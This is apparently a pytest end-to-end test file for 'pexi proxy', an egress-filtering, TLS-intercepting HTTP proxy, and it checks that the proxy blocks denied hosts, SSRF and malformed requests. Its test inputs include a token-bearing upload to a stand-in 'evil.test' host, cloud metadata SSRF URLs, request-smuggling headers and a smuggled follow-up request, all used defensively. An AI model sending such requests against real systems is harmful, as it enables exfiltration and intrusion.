"""End-to-end: the real `pexi proxy` with real clients (curl, Python urllib, raw sockets)
against real HTTP/HTTPS origins on loopback."""
import base64
import json
import os
import struct
import socket
import ssl
import subprocess
import time
import urllib.error
import urllib.request

import pytest

from conftest import toml_list
from origins import ws_frame


def config(http_origin, https_origin, test_ca, rules=""):
    return f"""
{rules}
[[policy.rule]]
name = "origins"
hosts = ["origin.test", "*.origin.test"]
ports = [{http_origin.port}, {https_origin.port}]

[guardrails]
allow_private = ["127.0.0.1/32"]
max_request_bytes = 2000000
max_response_bytes = 3000000

[fetch]
extra_ca = ["{test_ca['ca']}"]
total_timeout_ms = 10000
idle_timeout_ms = 5000

[audit]
path = "audit.jsonl"
"""


RESOLVE = ["--resolve", "origin.test=127.0.0.1", "--resolve", "api.origin.test=127.0.0.1",
           "--resolve", "private.origin.test=10.9.9.9"]


@pytest.fixture
def proxy(start_proxy, http_origin, https_origin, test_ca):
    return start_proxy(config(http_origin, https_origin, test_ca), RESOLVE)


def curl(proxy, *args, timeout=30):
    result = subprocess.run(["curl", "-sS", "--max-time", "20", "-x", proxy.url, *args],
                            capture_output=True, timeout=timeout)
    # Decoded by hand: text mode would turn the CRLFs of a response head into LFs.
    result.stdout = result.stdout.decode("utf-8", "replace")
    result.stderr = result.stderr.decode("utf-8", "replace")
    return result


def test_small_answer_is_held_and_audited_as_one_record(proxy, http_origin):
    result = curl(proxy, "-i", f"http://origin.test:{http_origin.port}/echo?x=1")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("HTTP/1.1 200")
    body = json.loads(result.stdout.split("\r\n\r\n", 1)[1])
    assert body["path"] == "/echo?x=1"
    (record,) = proxy.records(at_least=1)
    assert record["front"] == "proxy" and "phase" not in record
    assert record["decision"] == "allow" and record["rule"] == "origins" and record["status"] == 200
    assert record["resp_bytes"] == len(result.stdout.split("\r\n\r\n", 1)[1].encode())


def test_large_or_streamed_answer_gets_start_and_end_records(proxy, http_origin):
    for route, size in (("/bytes/100000", 100000), ("/chunked/5000", 5000)):
        result = curl(proxy, "-o", "/dev/null", "-w", "%{size_download}",
                      f"http://origin.test:{http_origin.port}{route}")
        assert result.stdout == str(size)
    records = proxy.records(at_least=4)
    for start, end in (records[0:2], records[2:4]):
        assert start["id"] == end["id"]
        assert (start["phase"], end["phase"]) == ("start", "end")
        assert start["status"] == 200
    assert (records[1]["resp_bytes"], records[3]["resp_bytes"]) == (100000, 5000)


def test_curl_https_is_intercepted_with_the_pexi_ca(proxy, https_origin):
    result = curl(proxy, "--cacert", proxy.ca, f"https://origin.test:{https_origin.port}/echo")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["path"] == "/echo"
    (record,) = proxy.records(at_least=1)
    assert record["url"] == f"https://origin.test:{https_origin.port}/echo"


def test_client_that_does_not_trust_the_ca_fails_closed(proxy, https_origin):
    before = https_origin.hits
    result = curl(proxy, f"https://origin.test:{https_origin.port}/echo")
    assert result.returncode == 60, result.stderr  # curl: peer certificate cannot be authenticated
    assert https_origin.hits == before
    (record,) = proxy.records(at_least=1)
    assert record["code"] == "invalid_request" and "trust the pexi CA" in record["reason"]


def test_denial_is_403_with_the_code_and_a_readable_reason(proxy):
    result = curl(proxy, "-i", "http://evil.test/upload?token=hunter2")
    head, body = result.stdout.split("\r\n\r\n", 1)
    assert head.startswith("HTTP/1.1 403")
    assert "X-Pexi-Error: denied_by_policy" in head
    assert "evil.test" in body and "Retrying will not help" in body
    (record,) = proxy.records(at_least=1)
    assert record["decision"] == "deny" and "phase" not in record
    assert record["url"] == "http://evil.test/upload?token=[REDACTED]"


def test_denied_connect_is_one_record_and_no_tunnel(proxy):
    result = curl(proxy, "https://evil.test/")
    assert result.returncode != 0
    assert "403" in result.stderr
    (record,) = proxy.records(at_least=1)
    assert record["method"] == "CONNECT" and record["code"] == "denied_by_policy"


def test_ssrf_through_the_proxy_is_blocked(proxy, http_origin):
    for url in ("http://169.254.169.254/latest/meta-data/", f"http://private.origin.test:{http_origin.port}/",
                "http://[::ffff:10.0.0.1]/"):
        result = curl(proxy, "-i", url)
        assert "X-Pexi-Error: ssrf_blocked" in result.stdout, (url, result.stdout)


def test_method_and_path_rules_apply_inside_tls(start_proxy, http_origin, https_origin, test_ca):
    rules = f"""
[[policy.rule]]
name = "api-read"
hosts = ["api.origin.test"]
ports = [{https_origin.port}]
methods = ["GET"]
paths = ["/echo/allowed/*"]
"""
    text = config(http_origin, https_origin, test_ca, rules).replace(
        'hosts = ["origin.test", "*.origin.test"]', 'hosts = ["origin.test"]')
    proxy = start_proxy(text, RESOLVE)
    base = f"https://api.origin.test:{https_origin.port}"
    ok = curl(proxy, "--cacert", proxy.ca, f"{base}/echo/allowed/x")
    assert ok.returncode == 0 and json.loads(ok.stdout)["path"] == "/echo/allowed/x"
    # (-i shows the CONNECT answer first, then the inner response.)
    denied_path = curl(proxy, "--cacert", proxy.ca, "-i", f"{base}/echo/secret")
    assert "\r\n\r\nHTTP/1.1 403 Forbidden" in denied_path.stdout
    denied_method = curl(proxy, "--cacert", proxy.ca, "-i", "-X", "POST", "-d", "x", f"{base}/echo/allowed/x")
    assert "\r\n\r\nHTTP/1.1 403 Forbidden" in denied_method.stdout


def test_connect_with_plain_http_inside(proxy, http_origin):
    result = curl(proxy, "-p", f"http://origin.test:{http_origin.port}/echo")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["path"] == "/echo"


def test_python_urllib_through_the_proxy(proxy, http_origin, https_origin):
    context = ssl.create_default_context(cafile=proxy.ca)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": proxy.url, "https": proxy.url}),
        urllib.request.HTTPSHandler(context=context))
    for url in (f"http://origin.test:{http_origin.port}/echo", f"https://origin.test:{https_origin.port}/echo"):
        with opener.open(url, timeout=20) as response:
            assert json.loads(response.read())["path"] == "/echo"
    with pytest.raises(urllib.error.HTTPError) as denied:
        opener.open("http://evil.test/", timeout=20)
    assert denied.value.code == 403 and denied.value.headers["X-Pexi-Error"] == "denied_by_policy"


def test_server_sent_events_stream_before_the_upstream_ends(proxy, http_origin):
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        s.sendall(f"GET http://origin.test:{http_origin.port}/sse?n=4&delay=700 HTTP/1.1\r\n"
                  f"Host: origin.test:{http_origin.port}\r\n\r\n".encode())
        started = time.monotonic()
        received = b""
        while b"event 0" not in received:
            chunk = s.recv(4096)
            assert chunk, "connection closed before the first event"
            received += chunk
        first_event = time.monotonic() - started
        while not received.endswith(b"0\r\n\r\n"):
            chunk = s.recv(4096)
            if not chunk:
                break
            received += chunk
        total = time.monotonic() - started
    assert b"Transfer-Encoding: chunked" in received
    assert all(f"event {i}".encode() in received for i in range(4))
    # The first event arrives about when the origin sends it, not when the stream ends (~2.8 s).
    assert first_event < total / 2, (first_event, total)


def test_request_bodies_stream_up_and_are_capped(proxy, http_origin):
    body = b"y" * 1_500_000
    result = subprocess.run(["curl", "-sS", "-x", proxy.url, "-H", "Transfer-Encoding: chunked",
                             "--data-binary", "@-", f"http://origin.test:{http_origin.port}/echo"],
                            input=body, capture_output=True, timeout=30)
    assert result.returncode == 0, result.stderr
    assert len(base64.b64decode(json.loads(result.stdout)["body_b64"])) == len(body)
    assert http_origin.chunked_requests >= 1  # streamed upstream with chunked framing
    too_big = subprocess.run(["curl", "-sS", "-i", "-x", proxy.url, "--data-binary", "@-",
                              f"http://origin.test:{http_origin.port}/echo"],
                             input=b"z" * 2_000_001, capture_output=True, timeout=30)
    assert b"X-Pexi-Error: constraint_violation" in too_big.stdout


def test_oversized_response_is_cut_and_recorded(proxy, http_origin):
    ok = curl(proxy, "-o", "/dev/null", "-w", "%{http_code} %{size_download}", f"http://origin.test:{http_origin.port}/bytes/3000000")
    assert ok.stdout == "200 3000000"
    # A Content-Length over the cap is refused before anything is relayed...
    refused = curl(proxy, "-o", "/dev/null", "-w", "%{http_code}", f"http://origin.test:{http_origin.port}/bytes/3000001")
    assert refused.stdout == "403"
    assert proxy.records()[-1]["code"] == "constraint_violation"
    # ...and a chunked answer that grows over it is cut mid-stream: the client sees a broken transfer.
    cut = curl(proxy, "-o", "/dev/null", f"http://origin.test:{http_origin.port}/chunked/3000001")
    assert cut.returncode != 0
    last = proxy.records(at_least=5)[-1]
    assert last["phase"] == "end" and last["code"] == "constraint_violation"


def test_redirects_reach_the_client_and_each_hop_is_decided(proxy, http_origin):
    result = curl(proxy, "-i", f"http://origin.test:{http_origin.port}/redirect?to=http://evil.test/")
    assert result.stdout.startswith("HTTP/1.1 302")
    followed = curl(proxy, "-L", "-i", f"http://origin.test:{http_origin.port}/redirect?to=http://evil.test/")
    assert "X-Pexi-Error: denied_by_policy" in followed.stdout


def test_injected_secret_over_https_and_never_back(start_proxy, http_origin, https_origin, test_ca):
    secret = "sk-ant-api03-" + "Z" * 40
    rules = f"""
[[policy.rule]]
name = "llm"
hosts = ["api.origin.test"]
ports = [{https_origin.port}]
[policy.rule.inject_headers]
"x-api-key" = {{ env = "PEXI_TEST_KEY" }}
"""
    proxy = start_proxy(config(http_origin, https_origin, test_ca, rules), RESOLVE,
                        env={"PEXI_TEST_KEY": secret})
    result = curl(proxy, "--cacert", proxy.ca, "-H", "x-api-key: placeholder",
                  f"https://api.origin.test:{https_origin.port}/echo")
    assert result.returncode == 0, result.stderr
    assert secret not in result.stdout and "[REDACTED]" in result.stdout
    assert secret not in proxy.audit.read_text()


@pytest.mark.parametrize("raw", [
    b"POST http://origin.test/ HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"POST http://origin.test/ HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
    b"GET http://origin.test/ HTTP/1.1\r\nX: a\r\n folded\r\n\r\n",
    b"GET http://origin.test/ HTTP/1.1\nHost: origin.test\n\n",
    b"GET http://origin.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET /relative HTTP/1.1\r\nHost: origin.test\r\n\r\n",
    b"GET http://origin.test/ HTTP/1.1\r\nX: " + b"a" * 70000 + b"\r\n\r\n",
    b"\x16\x03\x01\x02\x00garbage\r\n\r\n",
])
def test_hostile_heads_get_400_and_a_closed_connection(proxy, raw):
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        s.sendall(raw)
        received = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            received += chunk
    assert received.startswith(b"HTTP/1.1 400"), received[:200]
    assert b"X-Pexi-Error: invalid_request" in received


def websocket_roundtrip(sock, host, messages):
    """Upgrade on `sock`, send each message masked, read each echo; returns the echoes."""
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall(f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    reader = sock.makefile("rb")
    status = reader.readline()
    assert status.startswith(b"HTTP/1.1 101"), status
    while reader.readline() not in (b"\r\n", b""):
        pass
    echoes = []
    for message in messages:
        sock.sendall(ws_frame(2, message, masked=True))
        head = reader.read(2)
        length = head[1] & 0x7F
        if length == 126:
            length = struct.unpack(">H", reader.read(2))[0]
        elif length == 127:
            length = struct.unpack(">Q", reader.read(8))[0]
        echoes.append(reader.read(length))
    sock.sendall(ws_frame(8, b"", masked=True))
    reader.read(2)
    return echoes


def test_websocket_over_http_is_decided_then_relayed(proxy, http_origin):
    messages = [b"hello", os.urandom(300), os.urandom(70000)]
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        # Absolute-form upgrade through the proxy.
        host = f"origin.test:{http_origin.port}"
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall(f"GET http://{host}/ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
                  f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
        reader = s.makefile("rb")
        assert reader.readline().startswith(b"HTTP/1.1 101")
        while reader.readline() not in (b"\r\n", b""):
            pass
        for message in messages:
            s.sendall(ws_frame(2, message, masked=True))
            head = reader.read(2)
            length = head[1] & 0x7F
            if length == 126:
                length = struct.unpack(">H", reader.read(2))[0]
            elif length == 127:
                length = struct.unpack(">Q", reader.read(8))[0]
            assert reader.read(length) == message
        s.sendall(ws_frame(8, b"", masked=True))
        reader.read(2)
    start, end = proxy.records(at_least=2)
    assert (start["phase"], start["status"], end["phase"]) == ("start", 101, "end")
    assert start["id"] == end["id"]
    assert end["req_bytes"] > 70000 and end["resp_bytes"] > 70000


def test_websocket_over_tls_through_connect(proxy, https_origin):
    context = ssl.create_default_context(cafile=proxy.ca)
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as raw:
        authority = f"origin.test:{https_origin.port}"
        raw.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        assert raw.recv(4096).startswith(b"HTTP/1.1 200")
        with context.wrap_socket(raw, server_hostname="origin.test") as tls:
            assert websocket_roundtrip(tls, authority, [b"over tls", b"x" * 1000]) == [b"over tls", b"x" * 1000]
    start, end = proxy.records(at_least=2)
    assert start["url"] == f"https://origin.test:{https_origin.port}/ws" and end["phase"] == "end"


def test_websocket_to_a_denied_host_is_refused(proxy):
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        s.sendall(b"GET http://evil.test/ws HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\n"
                  b"Connection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                  b"Sec-WebSocket-Version: 13\r\n\r\n")
        answer = s.recv(4096)
    assert answer.startswith(b"HTTP/1.1 403") and b"X-Pexi-Error: denied_by_policy" in answer


def test_websocket_refused_by_the_origin_closes_the_connection(proxy, http_origin):
    """A non-101 answer ends the exchange: bytes the client sends afterwards never reach the
    origin (they would be requests no one decided or audited)."""
    host = f"origin.test:{http_origin.port}"
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as s:
        s.sendall(f"GET http://{host}/status/403 HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
                  f"Connection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                  f"Sec-WebSocket-Version: 13\r\n\r\n".encode())
        reader = s.makefile("rb")
        assert reader.readline().startswith(b"HTTP/1.1 403")
        while reader.readline() not in (b"\r\n", b""):
            pass
        assert reader.read(10) == b"status 403"
        hits = http_origin.hits
        try:  # a smuggled follow-up request on the same connection
            s.sendall(f"GET /echo HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        except OSError:
            pass
        assert reader.read() == b""  # closed, nothing more
    time.sleep(0.3)
    assert http_origin.hits == hits
    start, end = proxy.records(at_least=2)
    assert (start["status"], end["phase"]) == (403, "end") and end["resp_bytes"] == 10
